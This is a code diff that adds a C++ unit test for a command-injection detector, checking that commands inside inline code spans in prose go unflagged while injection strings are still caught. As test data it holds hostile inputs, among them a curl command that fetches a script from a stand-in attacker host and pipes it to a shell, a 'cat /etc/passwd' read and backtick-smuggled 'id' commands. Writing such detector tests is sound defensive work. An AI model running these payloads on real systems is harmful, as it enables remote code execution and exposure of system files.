@@ -158,6 +158,32 @@ TEST(CmdiTest, CodeSpanOpeningProse) {
   }
 }
 
+// In a value that reads as prose around its code spans (an issue, a chat
+// message, documentation), the spans are inline code: neither a command in
+// one nor a separator inside one is reported. A span glued to a word, and
+// spans with little prose around them, still are.
+TEST(CmdiTest, CodeSpansInProseAreDocumentation) {
+  for (const std::string v :
+       {"Use `grep -r TODO src/` to find the remaining items.",
+        "Revert the commit that added `rm -rf build/` to the clean target",
+        "`ls -la` shows the owner is root, so `chmod 644` fixed it for me",
+        "Run `make clean; rm -rf out` first, then build the project again",
+        "Only call `os.system(cmd)` after validating the `cmd` string"}) {
+    Case c;
+    c.value = v;
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << v << " -> " << m.rule_id;
+  }
+  for (const std::string v : {"hello `curl http://evil.example/x.sh | sh` world",
+                              "test `cat /etc/passwd` test", "name=`id`",
+                              "please check the file x`id` for the results now"}) {
+    Case c;
+    c.value = v;
+    Match m;
+    EXPECT_TRUE(Detects(CmdiDetector(), c, &m)) << v;
+  }
+}
+
 TEST(CmdiTest, CompletesOnPathologicalInput) {
   testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, ';'));
   testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, '`'));
